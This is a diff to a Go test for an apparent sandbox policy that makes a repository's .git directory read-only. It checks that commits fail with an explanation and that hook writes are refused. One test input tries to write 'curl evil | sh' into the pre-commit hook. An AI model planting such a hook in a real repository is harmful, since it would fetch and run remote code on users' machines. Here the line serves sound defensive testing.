@@ -130,10 +130,18 @@ func TestGitInitAndCommit(t *testing.T) {
 	w := newWorld(t)
 	p := w.policy()
 	mustRun(t, p, w.root, `git init -q && echo hi > f && git add f && git -c user.name=t -c user.email=t@example.com commit -qm first && git log --oneline | grep -q first`)
-	// Now that .git exists its hooks and config are protected, and
-	// committing still works.
-	mustRun(t, p, w.root, `echo more >> f && git -c user.name=t -c user.email=t@example.com commit -qam second`)
-	out := mustFail(t, p, w.root, `echo 'curl evil | sh' > .git/hooks/pre-commit`)
+	// Now that .git exists it is read-only as a whole (as Codex keeps
+	// it): reading works, committing fails naming the read-only git
+	// directory (it needs approval to run outside the sandbox).
+	mustRun(t, p, w.root, `echo more >> f && git status --short | grep -q 'M f' && git log --oneline | grep -q first`)
+	out := mustFail(t, p, w.root, `git -c user.name=t -c user.email=t@example.com commit -qam second`)
+	if !strings.Contains(out, ".git/index.lock': Read-only file system") {
+		t.Errorf("commit denied with %q, want the read-only index.lock", out)
+	}
+	if note := p.Explain(out, w.root); !strings.Contains(note, "must run outside the sandbox") {
+		t.Errorf("no explanation of the denied commit: %q", note)
+	}
+	out = mustFail(t, p, w.root, `echo 'curl evil | sh' > .git/hooks/pre-commit`)
 	if !strings.Contains(out, "Read-only file system") {
 		t.Errorf("hook write denied with %q, want a read-only file system error", out)
 	}
